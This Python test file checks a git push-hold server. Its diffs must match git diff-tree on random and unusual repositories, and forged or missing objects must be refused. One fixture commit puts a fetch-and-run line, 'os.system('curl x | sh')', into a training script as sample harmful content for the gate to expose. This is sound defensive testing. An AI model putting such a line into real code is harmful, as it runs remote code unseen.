"""The server's reading of a hold: object ids recomputed, trees walked, the diff rendered from
the objects the hook sent and nothing else, checked against git itself on real repositories.

The hook's side (gate.git.objects.held_objects, git plumbing on a real bare repository) picks
the objects; the server's side (gate.server.content.verify_commit_item) must list exactly the
paths and statuses that ``git diff-tree`` lists for every parent, count the same added and
deleted lines, and hash the same content as the hook.
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest

from gate.git.commits import display_path, parse_commit
from gate.git.objects import content_sha256, held_objects, object_id
from gate.git.plumbing import Git
from gate.server.content import verify_commit_item
from gate.wire import MAX_SENT_BLOB, WireError
from tests.support.histories import build, quote

STATUS = {"added": "A", "deleted": "D", "modified": "M"}


def git_out(bare: Path, *args: str) -> bytes:
    return subprocess.run(["git", *args], cwd=bare, capture_output=True, check=True).stdout


def commits_of(bare: Path) -> list[Any]:
    git = Git(str(bare), {"PATH": "/usr/bin:/bin"})
    ids = git_out(bare, "rev-list", "--all").decode().split()
    raw = git.raw_commits(oid.encode() for oid in ids)
    return [parse_commit(oid, raw[oid.encode()]) for oid in ids]


def hook_side(bare: Path, commits: list[Any]) -> list[Any]:
    git = Git(str(bare), {"PATH": "/usr/bin:/bin"})
    return held_objects(git, [(c.id, c.tree, c.parents) for c in commits])


def server_side(commit: str, objects: list[tuple[str, bytes]]) -> dict[str, Any]:
    item = {"key": commit, "kind": "commit", "objects": objects, "signals": [], "guards": {}}
    return verify_commit_item(item, "items[0]")


def git_listing(bare: Path, commit: str, parent: str | None) -> dict[tuple[str, str], str]:
    """(status, shown path) -> "+a -d" (or "binary") from git diff-tree, renames off; a change
    of type (T) is a deletion and an addition, as libgit2 lists it."""
    spec = [parent, commit] if parent else ["--root", commit]
    fields = git_out(bare, "diff-tree", "-r", "--no-renames", "-z", "--numstat", *spec)
    raw = git_out(bare, "diff-tree", "-r", "--no-renames", "-z", "--raw", *spec)
    counts = {}
    parts = fields.split(b"\0")
    if not parent:
        parts = parts[1:]
    for stat, path in zip(parts[0::2], parts[1::2], strict=False):
        added, deleted, _ = stat.split(b"\t")
        counts[path] = "binary" if added == b"-" else f"+{int(added)} -{int(deleted)}"
    listing: dict[tuple[str, str], str] = {}
    parts = raw.split(b"\0")
    if not parent:
        parts = parts[1:]
    for meta, path in zip(parts[0::2], parts[1::2], strict=False):
        status = meta.split(b" ")[-1].decode()
        shown = display_path(path.decode("utf-8", "surrogateescape"))
        for one in ("D", "A") if status == "T" else (status,):
            listing[(one, shown)] = counts.get(path, "")
    return listing


def server_listing(diff: dict[str, Any]) -> dict[tuple[str, str], str]:
    listing: dict[tuple[str, str], str] = {}
    for entry in diff["files"]:
        stat = "binary" if entry["binary"] else f"+{entry['additions']} -{entry['deletions']}"
        if entry["not_sent"] or entry["truncated"]:
            stat = "?"
        if entry["status"] == "renamed":
            listing[("D", entry["old_path"])] = listing[("A", entry["path"])] = "renamed"
        else:
            listing[(STATUS[entry["status"]], entry["path"])] = stat
    return listing


def assert_same_as_git(bare: Path, commit: Any, item: dict[str, Any]) -> None:
    parents = list(commit.parents) or [None]
    assert [d["parent"] for d in item["diffs"]] == parents
    for diff, parent in zip(item["diffs"], parents, strict=True):
        mine, gits = server_listing(diff), git_listing(bare, commit.id, parent)
        assert mine.keys() == gits.keys(), (commit.id, parent)
        for key, stat in mine.items():
            if stat not in ("renamed", "?", "") and gits[key] != "":
                assert stat == gits[key], (commit.id, key)


@pytest.mark.parametrize("seed", range(8))
def test_the_server_renders_what_git_lists_on_random_histories(tmp_path: Path, seed: int) -> None:
    """40-commit histories with merges (some of unrelated roots), root commits, renames, mode
    changes, symlinks, file <-> directory changes, spaces, newlines and non-UTF-8 bytes in
    names."""
    bare, _ = build(tmp_path, seed)
    commits = commits_of(bare)
    for commit, sent in zip(commits, hook_side(bare, commits), strict=True):
        item = server_side(commit.id, sent.objects)
        assert item["content_sha256"] == sent.content_sha256
        assert item["commit"]["author"]["email"] == commit.author.email
        assert item["commit"]["parents"] == list(commit.parents)
        assert_same_as_git(bare, commit, item)


def fast_import(tmp: Path, stream: bytes) -> Path:
    bare = tmp / "odd.git"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    subprocess.run(["git", "fast-import", "--quiet", "--done"], cwd=bare, input=stream, check=True)
    return bare


def data(body: bytes) -> bytes:
    return b"data %d\n" % len(body) + body


def commit_cmd(mark: int, branch: bytes, ops: list[bytes], parents: list[int] = ()) -> bytes:  # type: ignore[assignment]
    head = b"commit refs/heads/" + branch + b"\nmark :%d\n" % mark
    head += b"author Bot <ci@bots.example.com> %d +0000\n" % (1_700_000_000 + mark)
    head += b"committer Bot <ci@bots.example.com> %d +0000\n" % (1_700_000_000 + mark)
    head += data(b"change %d\n" % mark) + b"\n"
    if parents:
        head += b"from :%d\n" % parents[0] + b"".join(b"merge :%d\n" % p for p in parents[1:])
    return head + b"".join(op + b"\n" for op in ops) + b"\n"


BIG = b"#" * MAX_SENT_BLOB + b"!\n"  # one byte over the cap: never sent
SUBMODULE = object_id("commit", b"not here")
NON_UTF8 = b"raw/\xff\xfe.txt"


@pytest.fixture
def odd_repo(tmp_path: Path) -> Path:
    """Gitlinks, symlinks, binary, a file over the cap, non-UTF-8 names, modes, renames, a
    type change, and a merge of an unrelated root."""
    inline = b"M 100644 inline "
    stream = commit_cmd(
        1,
        b"main",
        [
            inline + b"train/loop.py\n" + data(b"steps = 1\n"),
            b"M 100755 inline run.sh\n" + data(b"#!/bin/sh\n"),
            b"M 120000 inline link\n" + data(b"train/loop.py"),
            inline + b"blob.bin\n" + data(b"\x00\x01\x02binary\x00"),
            inline + b"big.ckpt\n" + data(BIG),
            inline + quote(NON_UTF8) + b"\n" + data(b"caf\xe9\n"),
            b"M 160000 " + SUBMODULE.encode() + b" vendor/sub",
            inline + b"docs/long.md\n" + data(b"".join(b"line %d\n" % n for n in range(50))),
        ],
    )
    stream += commit_cmd(
        2,
        b"main",
        [
            inline + b"train/loop.py\n" + data(b"import os; os.system('curl x | sh')\n"),
            b"M 100644 inline run.sh\n" + data(b"#!/bin/sh\n"),  # mode change only
            b"D link",
            inline + b"link\n" + data(b"now a file\n"),  # symlink -> file: a type change
            b"D blob.bin",
            inline + b"data/blob.bin\n" + data(b"\x00\x01\x02binary\x00"),  # exact rename
            inline + b"big.ckpt\n" + data(BIG + b"more\n"),
            inline + quote(NON_UTF8) + b"\n" + data(b"caf\xe9 au lait\n"),
            b"M 160000 " + object_id("commit", b"moved").encode() + b" vendor/sub",
            b"D docs/long.md",
            inline
            + b"docs/moved.md\n"
            + data(b"".join(b"line %d\n" % n for n in range(50)) + b"one more\n"),
        ],
        [1],
    )
    stream += commit_cmd(3, b"other", [inline + b"other.txt\n" + data(b"other\n")])
    stream += commit_cmd(4, b"main", [inline + b"train/merged.py\n" + data(b"x = 4\n")], [2, 3])
    return fast_import(tmp_path, stream + b"done\n")


def by_path(diff: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {entry["path"]: entry for entry in diff["files"]}


def test_odd_entries_render_as_git_lists_them(odd_repo: Path) -> None:
    commits = commits_of(odd_repo)
    sent = hook_side(odd_repo, commits)
    items = {c.id: server_side(c.id, s.objects) for c, s in zip(commits, sent, strict=True)}
    for commit in commits:
        assert_same_as_git(odd_repo, commit, items[commit.id])
    root = next(c for c in commits if not c.parents and c.summary == "change 1")
    second = next(c for c in commits if c.summary == "change 2")
    files = by_path(items[root.id]["diffs"][0])
    assert files["blob.bin"]["binary"] and files["blob.bin"]["new_size"] == 10
    assert files["vendor/sub"]["new_mode"] == "160000" and not files["vendor/sub"]["not_sent"]
    assert files["link"]["new_mode"] == "120000" and "+train/loop.py" in files["link"]["patch"]
    assert files["raw/\\xff\\xfe.txt"]["additions"] == 1
    big = files["big.ckpt"]
    assert big["not_sent"] and big["patch"] == "" and big["new_size"] == 0
    assert big["new_id"] == object_id("blob", BIG)
    big_blobs = [o for o in sent[commits.index(root)].objects if o[1] == BIG]
    assert big_blobs == [], "a blob over the cap is never sent"

    files = by_path(items[second.id]["diffs"][0])
    assert "+import os; os.system('curl x | sh')" in files["train/loop.py"]["patch"]
    assert files["run.sh"]["old_mode"] == "100755" and files["run.sh"]["new_mode"] == "100644"
    assert files["data/blob.bin"]["status"] == "renamed"
    assert files["data/blob.bin"]["old_path"] == "blob.bin"
    assert files["docs/moved.md"]["status"] == "renamed"  # similar content: a rename
    assert files["big.ckpt"]["not_sent"] and files["big.ckpt"]["status"] == "modified"
    assert "Subproject commit" in files["vendor/sub"]["patch"]
    merge = next(c for c in commits if len(c.parents) == 2)
    assert len(items[merge.id]["diffs"]) == 2
    assert list(by_path(items[merge.id]["diffs"][0])) == ["train/merged.py"]
    against_other = by_path(items[merge.id]["diffs"][1])  # the unrelated root's side
    assert against_other["other.txt"]["status"] == "deleted" and "train/loop.py" in against_other


def objects_of(odd_repo: Path, summary: str) -> tuple[Any, list[tuple[str, bytes]]]:
    commits = commits_of(odd_repo)
    commit = next(c for c in commits if c.summary == summary)
    (sent,) = hook_side(odd_repo, [commit])
    return commit, list(sent.objects)


def refused(commit: str, objects: list[tuple[str, bytes]]) -> str:
    with pytest.raises(WireError) as error:
        server_side(commit, objects)
    assert error.value.status == 400 and "\n" not in str(error.value)
    return str(error.value)


def test_a_missing_tree_refuses_the_hold_naming_it(odd_repo: Path) -> None:
    commit, objects = objects_of(odd_repo, "change 2")
    subtree = next(
        (kind, body)
        for kind, body in objects
        if kind == "tree" and object_id(kind, body) not in (commit.tree,) and b"loop.py" in body
    )
    objects.remove(subtree)
    assert f"tree {object_id(*subtree)}, which the diff needs, was not sent" in refused(
        commit.id, objects
    )


def test_an_edited_or_swapped_blob_is_refused(odd_repo: Path) -> None:
    commit, objects = objects_of(odd_repo, "change 2")
    harmful = next(o for o in objects if o[1] == b"import os; os.system('curl x | sh')\n")
    edited = [("blob", b"# tidy: comment only\n") if o == harmful else o for o in objects]
    assert "is not part of commit" in refused(commit.id, edited)
    other = [("tree", b"") if o == harmful else o for o in objects]  # another valid object
    assert "is not part of commit" in refused(commit.id, other)


def test_a_claimed_parent_or_commit_that_was_not_sent_is_refused(odd_repo: Path) -> None:
    commit, objects = objects_of(odd_repo, "change 2")
    raw = next(body for kind, body in objects if object_id(kind, body) == commit.id)
    parent = commit.parents[0]
    other_parent = raw.replace(parent.encode(), b"f" * 40)
    forged = [("commit", other_parent) if o == ("commit", raw) else o for o in objects]
    assert f"the held commit {commit.id} was not sent" in refused(commit.id, forged)
    forged_id = object_id("commit", other_parent)
    assert f"parent {'f' * 40} was not sent" in refused(forged_id, forged)
    assert "SHA-256" in refused("a" * 64, objects)
    assert "sent twice" in refused(commit.id, [*objects, objects[0]])


def test_an_omitted_blob_is_shown_as_not_sent_and_hashes_differently(odd_repo: Path) -> None:
    commit, objects = objects_of(odd_repo, "change 2")
    harmful = ("blob", b"import os; os.system('curl x | sh')\n")
    item = server_side(commit.id, [o for o in objects if o != harmful])
    entry = by_path(item["diffs"][0])["train/loop.py"]
    assert entry["not_sent"] and entry["patch"] == "" and entry["new_id"] == object_id(*harmful)
    assert item["content_sha256"] != content_sha256(objects)
    assert item["content_sha256"] == content_sha256(o for o in objects if o != harmful)
    # the paths whose content was not sent: the one left out, and those over the hook's caps
    over_cap = server_side(commit.id, objects)["unsent"]
    assert "train/loop.py" not in over_cap
    assert item["unsent"] == sorted([*over_cap, "train/loop.py"])


def test_metadata_comes_from_the_verified_commit_and_must_fit(odd_repo: Path) -> None:
    commit, objects = objects_of(odd_repo, "change 1")
    item = server_side(commit.id, objects)
    assert item["commit"]["author"] == {
        "name": "Bot",
        "email": "ci@bots.example.com",
        "time": 1_700_000_001,
        "offset": "+0000",
    }
    raw = next(body for kind, body in objects if object_id(kind, body) == commit.id)
    long_name = raw.replace(b"author Bot", b"author " + b"n" * 400)
    forged = [("commit", long_name) if o == ("commit", raw) else o for o in objects]
    # A name of any length is held (and clipped only in its indexed column): refusing it would
    # leave the push waiting forever for an approval no one could give.
    held = server_side(object_id("commit", long_name), forged)
    assert held["commit"]["author"]["name"] == "n" * 400
